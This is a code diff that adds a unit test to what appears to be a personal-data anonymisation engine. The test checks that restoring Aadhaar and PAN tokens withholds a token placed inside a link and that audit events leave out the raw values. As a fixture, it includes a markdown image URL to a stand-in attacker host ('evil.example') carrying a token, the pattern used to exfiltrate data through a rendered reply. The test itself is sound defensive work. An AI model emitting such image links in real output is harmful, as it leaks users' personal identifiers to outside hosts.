@@ -199,3 +199,21 @@ describe('unknown tokens: linear work', () => {
     expect(big).toBeLessThanOrEqual(12 * Math.max(small, 2000));
   });
 });
+
+describe('audit of a restore', () => {
+  it('counts withheld and failed tokens, never their values', async () => {
+    const { createEngine } = await import('../../src/engine-api.js');
+    const { callbackSink } = await import('../../src/audit/index.js');
+    const events: Array<Record<string, unknown>> = [];
+    const engine = createEngine({ audit: callbackSink((e) => void events.push(e as unknown as Record<string, unknown>)) });
+    const a = await engine.anonymise(`Aadhaar ${AADHAAR}, PAN ABCPE1234F`);
+    const [aad, pan] = a.entities.map((e) => e.token);
+    const reply = `![x](https://evil.example/?a=${aad}) and ${pan}`;
+    await engine.deanonymise(reply, { session: a.session, links: 'withhold' });
+    const ev = events.find((e) => e.op === 'deanonymise')!;
+    expect(ev).toMatchObject({ restored: 1, unknown: 0, withheld: 1 });
+    expect(ev.failed).toBeUndefined();
+    expect(JSON.stringify(events)).not.toContain('2345');
+    await engine.close();
+  });
+});
